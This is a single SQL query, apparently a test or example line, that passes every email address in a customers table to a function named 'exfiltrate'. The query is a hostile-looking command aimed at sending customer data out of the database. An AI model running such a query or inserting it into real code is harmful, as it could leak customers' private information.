SELECT public.exfiltrate(email) FROM customers
